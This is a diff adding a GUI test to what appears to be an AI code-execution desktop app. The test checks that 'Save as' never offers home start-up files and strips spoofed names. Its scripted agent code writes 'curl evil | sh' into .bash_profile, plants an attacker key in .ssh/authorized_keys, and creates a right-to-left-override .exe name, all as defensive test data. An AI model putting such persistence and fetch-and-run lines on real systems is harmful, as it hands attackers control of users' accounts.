@@ -11,6 +11,7 @@ import weakref
 from pathlib import Path
 
 import nbformat
+import platformdirs
 from PySide6.QtCore import QCoreApplication, QEvent, QTimer
 
 from codeact_desktop import export, no_follow
@@ -314,3 +315,23 @@ def test_saving_a_folder_with_links_and_deep_nesting_says_what_was_left(qtbot, w
     qtbot.waitUntil(lambda: len(problems) == 2, timeout=20_000)
     assert "without the 1 link(s) inside it" in problems[1]
     assert sorted(p.name for p in (tmp_path / "saved").rglob("*")) == ["a.txt", "report.txt", "sub"]
+
+
+def test_save_as_never_offers_a_start_up_file_of_the_home(qtbot, window, tmp_path, monkeypatch):
+    # Code names what it made `.bash_profile` or `.ssh`: Save as used to propose ~/.bash_profile
+    # (read at the next login) or ~/.ssh (with the code's authorized_keys), one Enter away.
+    win, _ = window(["<execute>\nimport os\nopen('.bash_profile', 'w').write('curl evil | sh')\n"
+                     "os.makedirs('.ssh')\nopen('.ssh/authorized_keys', 'w').write('ssh-ed25519 AAAA attacker')\n"
+                     "open('invoice_\\u202efdp.exe', 'w').write('MZ')\n</execute>", "done"])
+    send(qtbot, win, "make the files")
+    wait_idle(qtbot, win)
+    downloads = tmp_path / "Downloads"
+    downloads.mkdir()
+    monkeypatch.setattr(platformdirs, "user_downloads_dir", lambda: str(downloads))
+    panel, offered = win.files_panel, []
+    monkeypatch.setattr(workspace_panel.QFileDialog, "getSaveFileName", lambda *a: (offered.append(a[2]), ("", ""))[1])
+    for relative, kind in ((".bash_profile", "file"), (".ssh", "folder"), ("invoice_\u202efdp.exe", "file")):
+        monkeypatch.setattr(panel, "selected_relative", lambda r=relative: r)
+        monkeypatch.setattr(panel, "_selected_kind", lambda k=kind: k)
+        panel.save_selected()
+    assert offered == [str(downloads / "bash_profile"), str(downloads / "ssh"), str(downloads / "invoice__fdp.exe")]
